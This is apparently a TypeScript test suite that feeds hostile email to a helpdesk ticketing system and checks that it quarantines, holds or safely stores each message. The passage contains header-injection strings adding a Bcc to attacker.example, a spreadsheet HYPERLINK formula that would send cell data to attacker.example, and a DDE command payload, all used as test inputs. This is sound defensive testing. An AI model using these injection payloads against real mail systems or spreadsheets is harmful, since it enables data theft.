/**
 * Hostile input, run through every runtime in `runtimes`: broken MIME, binary data, unknown
 * charsets, huge attachments, headers and recipient lists, header injection, forged plus tags,
 * untrusted senders, loops and formula text, and the bug-report cases of the shared test data.
 *
 * Each row lists the messages of one run and what must hold afterwards. Every row also checks
 * that the run finishes and that a good message after the hostile ones is still processed.
 * Nothing may go to an address outside the row's expected recipients. No sent message may have a
 * Bcc header, a recipient at attacker.example or a line over 998 characters. Every cell must fit
 * the Sheet's limit, and a second run over the same mailbox must send and record nothing.
 */
import { existsSync, readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { messageKey, outgoingMessageId } from '../src/core/compose';
import { CELL_LIMIT, defaultSettings } from '../src/core/sheet';
import type { Agent, Settings, Ticket } from '../src/core/types';
import { hasShared, sharedMissingNote, sharedPath } from './shared';
import {
  authResults,
  bigAttachment,
  binaryJunk,
  bounceFor,
  buildMail,
  deeplyNested,
  encodedWord,
  garbageBytes,
  GOOD_DATE,
  longBody,
  longHeaderLine,
  manyAttachments,
  manyHeaders,
  manyRecipients,
  missingSeparator,
  plusTagAddress,
  signatureOf,
  signedAddress,
  SUPPORT_ADDRESS,
  unknownCharset,
  unterminatedMultipart,
  utf7Mail,
} from './support/hostile-mail';
import { agents, testSigner } from './support/memory';
import { gasRuntime } from './support/gas-runtime';
import { runtimes, type InputMessage, type Outcome, type RunResult, type RunSetup, type SentMessage } from './support/runtimes';
import { ticket } from './support/tickets';

/** The team of the rows that set none: the in-memory store's default. */
const DEFAULT_TEAM = agents('Alice', 'Bob', 'Carol');
/** The team of the bug-report cases. */
const CASE_TEAM = agents('Alice', 'Bob', 'Carol', 'Dave', 'Erin', 'Frank');
const GOOD_SENDER = 'good.customer@customer.example';
const GOOD_SUBJECT = 'Good message after the hostile ones';
/** RFC 5322 section 2.1.1: a line is at most 998 characters, excluding CRLF. */
const MAX_LINE = 998;
/** Most recipients of one message: a relay's customer and the 49 people a ticket copies at most. */
const MAX_RECIPIENTS = 50;
/** A relay goes to the customer and the ticket's Cc list. */
const MAX_TICKET_CC = MAX_RECIPIENTS - 1;

interface Row {
  name: string;
  setup?: RunSetup;
  messages: () => InputMessage[];
  /** Addresses outside the team that may receive mail in this row (customers). */
  mayReceive?: string[];
  check: (result: RunResult) => void;
}

function message(sourceId: string, raw: string | Uint8Array): InputMessage {
  return { sourceId, raw };
}

function goodMessage(): InputMessage {
  return message(
    'good',
    buildMail({
      from: `Good Customer <${GOOD_SENDER}>`,
      subject: GOOD_SUBJECT,
      date: GOOD_DATE,
      messageId: 'good-message@customer.example',
      body: 'A normal question that must still become a ticket.',
    }),
  );
}

function outcomeOf(result: RunResult, sourceId: string): Outcome {
  const found = result.outcomes.find((outcome) => outcome.sourceId === sourceId);
  if (found === undefined) throw new Error(`no outcome for message ${sourceId}`);
  return found;
}

function recipients(sent: SentMessage): string[] {
  return [...sent.to, ...sent.cc, ...sent.bcc];
}

function sentTo(result: RunResult, email: string): SentMessage[] {
  return result.sent.filter((sent) => recipients(sent).includes(email.toLowerCase()));
}

function notifications(result: RunResult, ticketNumber: number): SentMessage[] {
  return result.sent.filter((sent) => sent.kind === 'notification' && sent.ticket === ticketNumber);
}

function ticketNumbered(result: RunResult, number: number): Ticket {
  const found = result.tickets.find((item) => item.number === number);
  if (found === undefined) throw new Error(`ticket #${number} not found`);
  return found;
}

function ticketOf(result: RunResult, sourceId: string): Ticket {
  const number = outcomeOf(result, sourceId).ticket;
  if (number === null) throw new Error(`message ${sourceId} has no ticket`);
  return ticketNumbered(result, number);
}

const existingTickets = (): Ticket[] => [
  ticket({
    number: 7,
    subject: 'Broken export',
    customerEmail: 'dana@customer.example',
    conversation: ['dana.1@customer.example'],
  }),
  ticket({ number: 8, subject: 'Login loop', customerEmail: 'erik@other.example' }),
];

function expectUntouched(result: RunResult, before: Ticket): void {
  const after = ticketNumbered(result, before.number);
  expect(after.status).toBe(before.status);
  expect(after.conversation).toEqual(before.conversation);
  expect(after.lastReplier).toBe(before.lastReplier);
}

const ACK_ON: Partial<Settings> = { autoAcknowledge: true };

/** Message-ID of the acknowledgement of the inbound message `eventId` from `customer`. */
function acknowledgementId(eventId: string, customer: string): string {
  return outgoingMessageId(messageKey('acknowledgement', eventId, [customer]), defaultSettings(SUPPORT_ADDRESS));
}

// ---------------------------------------------------------------------------------------------
// Rows

const brokenMime: Row[] = [
  {
    name: 'unterminated multipart boundary is read up to the end',
    messages: () => [message('m1', unterminatedMultipart('unterminated@customer.example'))],
    check(result) {
      expect(outcomeOf(result, 'm1').outcome).toBe('new-ticket');
      expect(notifications(result, ticketOf(result, 'm1').number)[0]?.text).toContain('the printer is offline');
    },
  },
  {
    name: 'random bytes are quarantined',
    messages: () => [message('m1', garbageBytes(3))],
    check(result) {
      const outcome = outcomeOf(result, 'm1');
      expect(outcome.state).toBe('quarantined');
      expect(outcome.reason).toMatch(/not text|NUL byte|no header fields/);
    },
  },
  {
    name: 'binary file is quarantined for its NUL bytes',
    messages: () => [message('m1', binaryJunk())],
    check(result) {
      const outcome = outcomeOf(result, 'm1');
      expect(outcome.state).toBe('quarantined');
      expect(outcome.reason).toContain('NUL byte');
    },
  },
  {
    name: 'missing blank line after the headers still makes a ticket',
    messages: () => [message('m1', missingSeparator('no-separator@customer.example'))],
    check(result) {
      expect(outcomeOf(result, 'm1').outcome).toBe('new-ticket');
      expect(ticketOf(result, 'm1').customer.email).toBe('casey@customer.example');
    },
  },
  {
    name: '100 KB subject line makes a ticket and short header lines',
    messages: () => [message('m1', longHeaderLine('long-subject@customer.example', 'Subject', 100_000))],
    check(result) {
      expect(outcomeOf(result, 'm1').outcome).toBe('new-ticket');
      expect(notifications(result, ticketOf(result, 'm1').number)).toHaveLength(1);
    },
  },
  {
    name: '100 KB display name makes short header lines',
    setup: { settings: ACK_ON },
    mayReceive: ['casey@customer.example', GOOD_SENDER],
    messages: () => [message('m1', buildMail({ from: `"${'N'.repeat(100_000)}" <casey@customer.example>`, messageId: 'long-name@customer.example' }))],
    check(result) {
      expect(outcomeOf(result, 'm1').outcome).toBe('new-ticket');
      expect(sentTo(result, 'casey@customer.example').map((sent) => sent.kind)).toEqual(['acknowledgement']);
    },
  },
  {
    name: '100 KB sender address is quarantined',
    setup: { settings: ACK_ON },
    mayReceive: [GOOD_SENDER],
    messages: () => [message('m1', buildMail({ from: `<${'a'.repeat(100_000)}@customer.example>`, messageId: 'long-address@customer.example' }))],
    check(result) {
      const outcome = outcomeOf(result, 'm1');
      expect(outcome.state).toBe('quarantined');
      expect(outcome.reason).toContain('over the 254 SMTP allows');
      expect(result.sent.filter((sent) => sent.kind === 'acknowledgement').map((sent) => sent.to)).toEqual([[GOOD_SENDER]]);
    },
  },
  {
    name: 'sender without a domain gets no mail',
    setup: { settings: ACK_ON, team: DEFAULT_TEAM },
    mayReceive: ['casey@customer.example', GOOD_SENDER],
    messages: () => [
      message('m1', buildMail({ from: 'root', messageId: 'bare-local@customer.example', subject: 'Cron output' })),
      message(
        'm2',
        buildMail({ from: 'Alice <alice@example.com>', to: signedAddress(testSigner, 1, 'reply'), messageId: 'alice-root@example.com', body: 'Noted.' }),
      ),
      message('m3', buildMail({ messageId: 'cc-invalid@customer.example', subject: 'Copies', cc: `root, <${'b'.repeat(300)}@customer.example>` })),
    ],
    check(result) {
      expect(ticketOf(result, 'm1').customer.email).toBe('root');
      expect(outcomeOf(result, 'm2').reason).toContain('cannot receive mail');
      expect(ticketOf(result, 'm3').cc).toEqual([]);
      expect(sentTo(result, 'root')).toEqual([]);
    },
  },
  {
    name: '100 KB extra header line is ignored',
    messages: () => [message('m1', longHeaderLine('long-header@customer.example', 'X-Padding', 100_000))],
    check(result) {
      expect(outcomeOf(result, 'm1').outcome).toBe('new-ticket');
      expect(ticketOf(result, 'm1').subject).toBe('A very long extra header');
    },
  },
  {
    name: '3,000 nested multiparts are quarantined',
    messages: () => [message('m1', deeplyNested('nested@customer.example', 3000))],
    check(result) {
      const outcome = outcomeOf(result, 'm1');
      expect(outcome.state).toBe('quarantined');
      expect(outcome.reason).toMatch(/nesting depth/i);
    },
  },
  {
    name: '50,000 header fields are quarantined',
    messages: () => [message('m1', manyHeaders('headers@customer.example', 50_000))],
    check(result) {
      const outcome = outcomeOf(result, 'm1');
      expect(outcome.state).toBe('quarantined');
      expect(outcome.reason).toMatch(/header size/i);
    },
  },
  {
    name: '100 KB Message-ID stays out of threading headers',
    setup: { team: DEFAULT_TEAM },
    messages: () => {
      const longId = `${'x'.repeat(100_000)}@customer.example`;
      const raw = buildMail({ messageId: longId, subject: 'Long Message-ID' });
      return [
        message('m1', raw),
        message('m2', raw),
        message(
          'm3',
          buildMail({
            from: 'Alice <alice@example.com>',
            to: signedAddress(testSigner, 1, 'reply'),
            messageId: 'alice-long@example.com',
            body: 'Threading still works.',
          }),
        ),
      ];
    },
    mayReceive: ['casey@customer.example'],
    check(result) {
      expect(outcomeOf(result, 'm1').outcome).toBe('new-ticket');
      expect(outcomeOf(result, 'm2').state).toBe('duplicate');
      expect(outcomeOf(result, 'm3').outcome).toBe('agent-reply');
      expect(result.sent.filter((sent) => sent.kind === 'relay')).toHaveLength(1);
      expect(ticketOf(result, 'm1').conversation.every((id) => id.length <= 250)).toBe(true);
    },
  },
];

const charsets: Row[] = [
  {
    name: 'x-unknown charset is read as windows-1252',
    messages: () => [message('m1', unknownCharset('x-unknown@customer.example', 'x-unknown', 'Caf\xe9 au lait'))],
    check(result) {
      expect(outcomeOf(result, 'm1').outcome).toBe('new-ticket');
      expect(ticketOf(result, 'm1').subject).toBe('Café order');
      expect(notifications(result, ticketOf(result, 'm1').number)[0]?.text).toContain('Café au lait');
    },
  },
  {
    name: 'utf-7 body reaches the team undecoded',
    messages: () => [message('m1', utf7Mail('utf7@customer.example'))],
    check(result) {
      expect(outcomeOf(result, 'm1').outcome).toBe('new-ticket');
      expect(notifications(result, ticketOf(result, 'm1').number)[0]?.text).toContain('The invoice');
    },
  },
  {
    name: 'latin-1 labelled utf-8 keeps its letters',
    messages: () => [message('m1', unknownCharset('mislabelled@customer.example', 'utf-8', 'Caf\xe9 cr\xe8me br\xfbl\xe9e'))],
    check(result) {
      expect(outcomeOf(result, 'm1').outcome).toBe('new-ticket');
      expect(notifications(result, ticketOf(result, 'm1').number)[0]?.text).toContain('Café crème brûlée');
    },
  },
];

const sizes: Row[] = [
  {
    name: '20 MB attachment is left out of the notification with a note',
    messages: () => [message('m1', bigAttachment('big@customer.example', 20 * 1024 * 1024))],
    check(result) {
      const created = ticketOf(result, 'm1');
      const [note] = notifications(result, created.number);
      expect(note).toBeDefined();
      expect(note!.attachments).toEqual([]);
      expect(note!.text).toContain('The log of the crash is attached.');
      expect(note!.text).toMatch(/Left out as too large[^\n]*crash\.log/);
    },
  },
  {
    name: '5,000 recipients get nothing and the Cc list is bounded',
    messages: () => [message('m1', manyRecipients('many@customer.example', 5000))],
    check(result) {
      const created = ticketOf(result, 'm1');
      expect(created.customer.email).toBe('casey@customer.example');
      expect(created.cc.length).toBeLessThanOrEqual(MAX_TICKET_CC);
      expect(result.sent.filter((sent) => recipients(sent).some((email) => email.endsWith('@victims.example')))).toEqual([]);
    },
  },
  {
    name: '5,000 recipients are not copied on the agent reply',
    setup: { team: DEFAULT_TEAM },
    messages: () => [
      message('m1', manyRecipients('many@customer.example', 5000)),
      message(
        'm2',
        buildMail({
          from: 'Alice <alice@example.com>',
          to: signedAddress(testSigner, 1, 'reply'),
          messageId: 'alice-answer@example.com',
          body: 'We do not send newsletters.',
        }),
      ),
    ],
    mayReceive: ['casey@customer.example'],
    check(result) {
      expect(outcomeOf(result, 'm2').outcome).toBe('agent-reply');
      const relay = result.sent.find((sent) => sent.kind === 'relay');
      expect(relay?.to).toEqual(['casey@customer.example']);
      expect(relay?.cc).toEqual([]);
    },
  },
  {
    name: '300 attachments reach the team',
    messages: () => [message('m1', manyAttachments('attachments@customer.example', 300))],
    check(result) {
      const [note] = notifications(result, ticketOf(result, 'm1').number);
      expect(note?.attachments).toHaveLength(300);
    },
  },
  {
    name: 'empty body makes a ticket with a placeholder text',
    messages: () => [message('m1', buildMail({ messageId: 'empty@customer.example', body: '' }))],
    check(result) {
      expect(outcomeOf(result, 'm1').outcome).toBe('new-ticket');
      expect(notifications(result, ticketOf(result, 'm1').number)[0]?.text).toContain('(no text)');
    },
  },
  {
    name: 'HTML-only mail reaches the team as readable text',
    messages: () => [
      message(
        'm1',
        buildMail({
          messageId: 'html-only@customer.example',
          contentType: 'text/html; charset=utf-8',
          body: '<html><head><style>p{color:red}</style></head><body><p>Hello <b>team</b>,</p><p>the export &amp; import fail.</p></body></html>',
        }),
      ),
    ],
    check(result) {
      const text = notifications(result, ticketOf(result, 'm1').number)[0]?.text ?? '';
      expect(text).toContain('Hello team,');
      expect(text).toContain('the export & import fail.');
      expect(text).not.toMatch(/<\/?(p|b|html|style)\b/);
      expect(text).not.toContain('color:red');
    },
  },
  {
    name: 'body over 50,000 characters stays whole in the notification',
    messages: () => [
      message('m1', buildMail({ messageId: 'long-body@customer.example', body: longBody(60_000, 'THE LAST LINE OF THE LOG') })),
    ],
    check(result) {
      const row = result.messages.find((record) => record.sourceId === 'm1' && record.key === '');
      expect(row?.summary.length).toBeLessThanOrEqual(500);
      expect(notifications(result, ticketOf(result, 'm1').number)[0]?.text).toContain('THE LAST LINE OF THE LOG');
    },
  },
];

const injectedName = encodedWord('Eve\r\nBcc: evil@attacker.example\r\nX-Injected: yes');
const injectedSubject = encodedWord('Refund\r\nBcc: evil@attacker.example\r\nX-Injected: yes');

const injection: Row[] = [
  {
    name: 'encoded CRLF in the From name and subject adds no header',
    setup: { settings: ACK_ON },
    messages: () => [
      message('m1', buildMail({ from: `${injectedName} <eve@customer.example>`, subject: injectedSubject, messageId: 'inject@customer.example' })),
      message(
        'm2',
        buildMail({
          from: 'Alice <alice@example.com>',
          to: signedAddress(testSigner, 1, 'reply'),
          messageId: 'alice-inject@example.com',
          subject: injectedSubject,
          body: 'Your refund is on its way.',
        }),
      ),
    ],
    mayReceive: ['eve@customer.example', GOOD_SENDER],
    check(result) {
      expect(outcomeOf(result, 'm1').outcome).toBe('new-ticket');
      expect(outcomeOf(result, 'm2').outcome).toBe('agent-reply');
      expect(result.sent.map((sent) => sent.kind).sort()).toEqual(
        ['acknowledgement', 'acknowledgement', 'notification', 'notification', 'relay'].sort(),
      );
      for (const sent of result.sent) expect(sent.headers['x-injected']).toBeUndefined();
    },
  },
  {
    name: 'folded header line stays part of the subject',
    messages: () => [
      message('m1', buildMail({ subject: 'Question\r\n Bcc: evil@attacker.example', messageId: 'folded@customer.example' })),
    ],
    check(result) {
      expect(ticketOf(result, 'm1').subject).toBe('Question Bcc: evil@attacker.example');
    },
  },
  {
    name: 'formula-looking subject and name are stored as text',
    messages: () => [
      message(
        'm1',
        buildMail({
          from: '"+1-2" <quiz@customer.example>',
          subject: '=HYPERLINK("http://attacker.example/?d="&A1,"Open")',
          messageId: 'formula@customer.example',
          body: '@SUM(1+1)*cmd|\' /C calc\'!A0',
        }),
      ),
    ],
    check(result) {
      const created = ticketOf(result, 'm1');
      expect(created.subject).toBe('=HYPERLINK("http://attacker.example/?d="&A1,"Open")');
      expect(created.customer.name).toBe('+1-2');
      const subjectCell = result.cells.find((cell) => cell.value === created.subject);
      expect(subjectCell?.formula).toBe(false);
      expect(typeof subjectCell?.value).toBe('string');
      expect(result.cells.find((cell) => cell.value === '+1-2')?.formula).toBe(false);
      const summary = result.cells.find((cell) => typeof cell.value === 'string' && cell.value.startsWith('@SUM(1+1)'));
      expect(summary?.formula).toBe(false);
    },
  },
];

const senders: Row[] = [
  {
    name: 'message without any sender address is quarantined',
    messages: () => [message('m1', buildMail({ from: null, messageId: 'no-from@customer.example' }))],
    check(result) {
      const outcome = outcomeOf(result, 'm1');
      expect(outcome.state).toBe('quarantined');
      expect(outcome.reason).toContain('no sender address');
    },
  },
  {
    name: 'Reply-To elsewhere gets no acknowledgement',
    setup: { settings: ACK_ON },
    mayReceive: ['casey@customer.example', GOOD_SENDER],
    messages: () => [
      message('m1', buildMail({ messageId: 'reply-to@customer.example', extra: [['Reply-To', 'evil@attacker.example']] })),
    ],
    check(result) {
      expect(ticketOf(result, 'm1').customer.email).toBe('casey@customer.example');
      expect(sentTo(result, 'casey@customer.example').map((sent) => sent.kind)).toEqual(['acknowledgement']);
    },
  },
  {
    name: 'second From address is not mailed',
    setup: { settings: ACK_ON },
    mayReceive: ['casey@customer.example', GOOD_SENDER],
    messages: () => [
      message('m1', buildMail({ from: 'casey@customer.example, Eve <evil@attacker.example>', messageId: 'two-from@customer.example' })),
    ],
    check(result) {
      expect(ticketOf(result, 'm1').customer.email).toBe('casey@customer.example');
    },
  },
  {
    name: 'message without Message-ID is processed once',
    messages: () => {
      const raw = buildMail({ messageId: null, subject: 'No Message-ID here' });
      return [message('m1', raw), message('m2', raw)];
    },
    check(result) {
      expect(outcomeOf(result, 'm1').outcome).toBe('new-ticket');
      expect(outcomeOf(result, 'm2').state).toBe('duplicate');
      expect(result.tickets.filter((item) => item.subject === 'No Message-ID here')).toHaveLength(1);
      expect(result.sent.filter((sent) => sent.subject.includes('No Message-ID here'))).toHaveLength(1);
    },
  },
  {
    name: 'mail from the support address itself gets no acknowledgement',
    setup: { settings: ACK_ON },
    messages: () => [
      message('m1', buildMail({ from: `Support <${SUPPORT_ADDRESS}>`, messageId: 'self@example.com', subject: 'Sent to ourselves' })),
      message(
        'm2',
        buildMail({ from: plusTagAddress('7-aaaaaaaa'), messageId: 'self-plus@example.com', subject: 'From a plus address' }),
      ),
    ],
    mayReceive: [GOOD_SENDER],
    check(result) {
      expect(result.sent.filter((sent) => sent.kind === 'acknowledgement' && sent.to.includes(GOOD_SENDER))).toHaveLength(1);
      expect(result.sent.filter((sent) => sent.kind === 'acknowledgement')).toHaveLength(1);
    },
  },
  {
    name: 'agent mailing support directly is not notified of it',
    setup: { team: DEFAULT_TEAM },
    messages: () => [
      message('m1', buildMail({ from: 'Alice <alice@example.com>', messageId: 'alice-new@example.com', subject: 'Opened for a caller' })),
    ],
    check(result) {
      const created = ticketOf(result, 'm1');
      const notes = notifications(result, created.number);
      expect(notes).toHaveLength(1);
      expect(notes[0]!.to.sort()).toEqual(['bob@example.com', 'carol@example.com']);
    },
  },
  {
    name: 'agent replying on a ticket they opened gets no relay',
    setup: { team: DEFAULT_TEAM, tickets: [ticket({ number: 7, subject: 'Printer for the caller', customerEmail: 'alice@example.com' })] },
    messages: () => [
      message(
        'm1',
        buildMail({ from: 'Alice <alice@example.com>', to: signedAddress(testSigner, 7, 'reply'), messageId: 'alice-own@example.com', body: 'Done.' }),
      ),
    ],
    check(result) {
      expect(outcomeOf(result, 'm1').ticket).toBe(7);
      expect(sentTo(result, 'alice@example.com').filter((sent) => sent.ticket === 7)).toEqual([]);
      expect(ticketNumbered(result, 7).lastReplier).toBe('alice@example.com');
    },
  },
  {
    name: 'agent customer who follows the ticket gets one message',
    setup: {
      team: DEFAULT_TEAM,
      tickets: [ticket({ number: 7, subject: 'Laptop for Bob', customerEmail: 'bob@example.com', followers: ['bob@example.com', 'carol@example.com'] })],
    },
    messages: () => [
      message(
        'm1',
        buildMail({ from: 'Alice <alice@example.com>', to: signedAddress(testSigner, 7, 'reply'), messageId: 'alice-bob@example.com', body: 'Ready.' }),
      ),
    ],
    mayReceive: ['bob@example.com'],
    check(result) {
      const aboutTicket = (email: string) => sentTo(result, email).filter((sent) => sent.ticket === 7);
      expect(aboutTicket('bob@example.com').map((sent) => sent.kind)).toEqual(['relay']);
      expect(aboutTicket('carol@example.com').map((sent) => sent.kind)).toEqual(['notification']);
    },
  },
  {
    name: 'team address copied by a customer gets no relay',
    setup: { team: DEFAULT_TEAM, settings: { teamAddress: 'team@example.com' } },
    messages: () => [
      message('m1', buildMail({ messageId: 'copies-team@customer.example', cc: 'Team <team@example.com>' })),
      message(
        'm2',
        buildMail({ from: 'Alice <alice@example.com>', to: signedAddress(testSigner, 1, 'reply'), messageId: 'alice-team@example.com', body: 'On it.' }),
      ),
    ],
    mayReceive: ['casey@customer.example'],
    check(result) {
      expect(ticketOf(result, 'm1').cc).toEqual([]);
      const relay = result.sent.find((sent) => sent.kind === 'relay');
      expect(relay?.to).toEqual(['casey@customer.example']);
      expect(relay?.cc).toEqual([]);
    },
  },
];

const tags: Row[] = [
  {
    name: 'plus tag with a wrong signature acts on no ticket',
    setup: { tickets: existingTickets() },
    messages: () => [
      message(
        'm1',
        buildMail({ from: 'Alice <alice@example.com>', to: plusTagAddress('7-aaaaaaaa'), messageId: 'forged@example.com', body: 'Refund approved.' }),
      ),
    ],
    check(result) {
      const outcome = outcomeOf(result, 'm1');
      expect(outcome.outcome).toBe('new-ticket');
      expect(outcome.ticket).not.toBe(7);
      expect(outcome.reason).toContain('wrong signature');
      expectUntouched(result, existingTickets()[0]!);
    },
  },
  {
    name: 'plus tag of a ticket that does not exist acts on no ticket',
    setup: { tickets: existingTickets() },
    messages: () => [
      message(
        'm1',
        buildMail({ from: 'Alice <alice@example.com>', to: signedAddress(testSigner, 999, 'reply'), messageId: 'ghost@example.com' }),
      ),
    ],
    check(result) {
      const outcome = outcomeOf(result, 'm1');
      expect(outcome.outcome).toBe('new-ticket');
      expect(outcome.reason).toContain('ticket 999 does not exist');
      expect(result.tickets.some((item) => item.number === 999)).toBe(false);
    },
  },
  {
    name: 'signature moved to another ticket number acts on no ticket',
    setup: { tickets: existingTickets() },
    messages: () => [
      message(
        'm1',
        buildMail({
          from: 'Alice <alice@example.com>',
          to: plusTagAddress(`8-${signatureOf(signedAddress(testSigner, 7, 'reply'))}`),
          messageId: 'moved@example.com',
          body: 'Refund approved.',
        }),
      ),
    ],
    check(result) {
      const outcome = outcomeOf(result, 'm1');
      expect(outcome.outcome).toBe('new-ticket');
      expect(outcome.ticket).not.toBe(7);
      expect(outcome.ticket).not.toBe(8);
      expect(outcome.reason).toContain('wrong signature');
      expectUntouched(result, existingTickets()[0]!);
      expectUntouched(result, existingTickets()[1]!);
    },
  },
  {
    name: 'reply from a non-agent is held and the team told once',
    setup: { tickets: existingTickets() },
    messages: () => {
      const raw = buildMail({
        from: 'Mallory <mallory@outsider.example>',
        to: signedAddress(testSigner, 7, 'reply'),
        messageId: 'mallory@outsider.example',
        body: 'Send the refund to my account instead.',
      });
      return [message('m1', raw), message('m2', raw)];
    },
    check(result) {
      const outcome = outcomeOf(result, 'm1');
      expect(outcome.state).toBe('held');
      expect(outcome.ticket).toBe(7);
      expect(outcomeOf(result, 'm2').state).toBe('duplicate');
      const alerts = result.sent.filter((sent) => sent.kind === 'alert');
      expect(alerts).toHaveLength(1);
      expect(alerts[0]!.text).not.toContain('Send the refund');
      expectUntouched(result, existingTickets()[0]!);
    },
  },
  {
    name: 'agent reply failing DMARC is held',
    setup: { tickets: existingTickets() },
    messages: () => [
      message(
        'm1',
        buildMail({
          from: 'Alice <alice@example.com>',
          to: signedAddress(testSigner, 7, 'reply'),
          messageId: 'spoofed-alice@example.com',
          extra: [authResults('example.com', 'fail')],
          body: 'Refund approved.',
        }),
      ),
    ],
    check(result) {
      const outcome = outcomeOf(result, 'm1');
      expect(outcome.state).toBe('held');
      expect(outcome.reason).toContain('DMARC fail');
      expect(result.sent.filter((sent) => sent.kind === 'relay')).toEqual([]);
      // Alice is alerted that mail in her name was held.
      const alerts = result.sent.filter((sent) => sent.kind === 'alert');
      expect(alerts.flatMap((alert) => alert.to)).toContain('alice@example.com');
      expectUntouched(result, existingTickets()[0]!);
    },
  },
  {
    name: 'a flood of replies to a leaked reply address alerts the team once',
    setup: { tickets: existingTickets() },
    messages: () =>
      Array.from({ length: 5 }, (_, index) =>
        message(
          `m${index}`,
          buildMail({
            from: `Sender ${index} <sender${index}@outsider.example>`,
            to: signedAddress(testSigner, 7, 'reply'),
            messageId: `flood-${index}@outsider.example`,
            body: `Message ${index}.`,
          }),
        ),
      ),
    check(result) {
      for (let index = 0; index < 5; index++) expect(outcomeOf(result, `m${index}`).state).toBe('held');
      expect(outcomeOf(result, 'm4').reason).toContain('alerted about this ticket in the last 24 hours');
      expect(result.sent.filter((sent) => sent.kind === 'alert')).toHaveLength(1);
      expectUntouched(result, existingTickets()[0]!);
    },
  },
];

const loops: Row[] = [
  {
    name: 'autoresponder answering the acknowledgement is recorded once',
    setup: { settings: ACK_ON },
    mayReceive: ['casey@customer.example', GOOD_SENDER],
    messages: () => {
      const answer = buildMail({
        messageId: 'casey-away@customer.example',
        subject: 'Automatic reply: Re: A question [#1]',
        inReplyTo: `<${acknowledgementId('casey-first@customer.example', 'casey@customer.example')}>`,
        extra: [['Auto-Submitted', 'auto-replied']],
        body: 'I am out of the office until Monday.',
      });
      return [
        message('m1', buildMail({ messageId: 'casey-first@customer.example' })),
        message('m2', answer),
        message('m3', answer),
      ];
    },
    check(result) {
      expect(outcomeOf(result, 'm2').outcome).toBe('auto-reply');
      expect(outcomeOf(result, 'm2').ticket).toBe(1);
      expect(outcomeOf(result, 'm3').state).toBe('duplicate');
      expect(sentTo(result, 'casey@customer.example').map((sent) => sent.kind)).toEqual(['acknowledgement']);
      const rows = result.messages.filter((record) => record.messageId === 'casey-away@customer.example');
      expect(rows).toHaveLength(1);
    },
  },
  {
    name: 'autoresponder without markers is acknowledged once',
    setup: { settings: ACK_ON },
    mayReceive: ['info@shop.example', GOOD_SENDER],
    messages: () => [
      message('m1', buildMail({ from: 'Shop <info@shop.example>', messageId: 'shop-1@shop.example', subject: 'Your order' })),
      message('m2', buildMail({ from: 'Shop <info@shop.example>', messageId: 'shop-2@shop.example', subject: 'Thank you for your email' })),
      message('m3', buildMail({ from: 'Shop <info@shop.example>', messageId: 'shop-3@shop.example', subject: 'Thank you for your email' })),
    ],
    check(result) {
      expect(sentTo(result, 'info@shop.example')).toHaveLength(1);
    },
  },
  {
    name: 'no-reply senders get no acknowledgement',
    setup: { settings: ACK_ON },
    mayReceive: [GOOD_SENDER],
    messages: () =>
      ['no-reply@vendor.example', 'noreply@vendor.example', 'do-not-reply@vendor.example', 'notifications@vendor.example'].map(
        (sender, index) => message(`m${index + 1}`, buildMail({ from: sender, messageId: `nr${index}@vendor.example`, subject: `Receipt ${index}` })),
      ),
    check(result) {
      for (const id of ['m1', 'm2', 'm3', 'm4']) expect(outcomeOf(result, id).outcome).toBe('new-ticket');
      expect(result.sent.filter((sent) => sent.kind === 'acknowledgement').map((sent) => sent.to)).toEqual([[GOOD_SENDER]]);
    },
  },
  {
    name: 'mailing-list mail with List-Id makes no ticket',
    messages: () => [
      message(
        'm1',
        buildMail({
          from: 'News <news@lists.example>',
          messageId: 'list@lists.example',
          extra: [['List-Id', 'Product news <news.lists.example>']],
        }),
      ),
    ],
    check(result) {
      const outcome = outcomeOf(result, 'm1');
      expect(outcome.outcome).toBe('bulk');
      expect(outcome.state).toBe('skipped');
      expect(result.tickets.map((item) => item.subject)).toEqual([GOOD_SUBJECT]);
    },
  },
  {
    name: 'own notification coming back is skipped',
    setup: { tickets: existingTickets() },
    messages: () => [
      message(
        'm1',
        buildMail({
          from: `Dana via Support <${SUPPORT_ADDRESS}>`,
          to: 'alice@example.com',
          messageId: 'pd.0123456789abcdef@example.com',
          subject: '[#7] Broken export',
          extra: [
            ['X-Plusdesk-Ticket', '7'],
            ['X-Plusdesk-Key', '0123456789abcdef'],
            ['Auto-Submitted', 'auto-generated'],
          ],
        }),
      ),
    ],
    check(result) {
      const outcome = outcomeOf(result, 'm1');
      expect(outcome.outcome).toBe('own-message');
      expect(outcome.state).toBe('skipped');
      expectUntouched(result, existingTickets()[0]!);
    },
  },
  {
    name: 'bounce of a relay notifies nobody',
    setup: { tickets: existingTickets() },
    messages: () => {
      const relayId = outgoingMessageId(
        messageKey('relay', 'alice-fixed@example.com', ['dana@customer.example']),
        defaultSettings(SUPPORT_ADDRESS),
      );
      return [
        message(
          'm1',
          buildMail({
            from: 'Alice <alice@example.com>',
            to: signedAddress(testSigner, 7, 'reply'),
            messageId: 'alice-fixed@example.com',
            body: 'Fixed.',
          }),
        ),
        message('m2', bounceFor('bounce@mx.customer.example', 'dana@customer.example', relayId)),
      ];
    },
    mayReceive: ['dana@customer.example'],
    check(result) {
      expect(outcomeOf(result, 'm1').outcome).toBe('agent-reply');
      const bounce = outcomeOf(result, 'm2');
      expect(bounce.outcome).toBe('bounce');
      expect(bounce.ticket).toBe(7);
      expect(bounce.reason).toContain('dana@customer.example');
      expect(result.sent.map((sent) => sent.kind)).toEqual(['relay', 'notification']);
    },
  },
];

// ---------------------------------------------------------------------------------------------
// The bug-report cases of the shared test data, with the state each one starts from

function caseMessage(file: string): InputMessage {
  return { sourceId: file, raw: readFileSync(sharedPath('cases', file)) };
}

function caseRow(name: string, files: string[], tickets: Ticket[], check: (result: RunResult) => void): Row {
  return { name, setup: { tickets, team: CASE_TEAM }, messages: () => files.map(caseMessage), check };
}

function recipientList(result: RunResult, predicate: (sent: SentMessage) => boolean): string[] {
  return result.sent.filter(predicate).flatMap(recipients).sort();
}

const notGood = (sent: SentMessage): boolean => !sent.subject.includes(GOOD_SUBJECT);

const cases: Row[] = [
  caseRow(
    'B01 out-of-office answer to a reply notifies nobody',
    ['B01.eml'],
    [ticket({ number: 31, subject: 'Cannot log in to the portal', customerEmail: 'tomas.berg@example.org', status: 'pending', lastReplier: 'alice@example.com', conversation: ['t31.1@example.com', 't31.r2@example.com'] })],
    (result) => {
      expect(outcomeOf(result, 'B01.eml').outcome).toBe('auto-reply');
      expect(outcomeOf(result, 'B01.eml').ticket).toBe(31);
      expect(ticketNumbered(result, 31).status).toBe('pending');
      expect(result.sent.filter(notGood)).toEqual([]);
    },
  ),
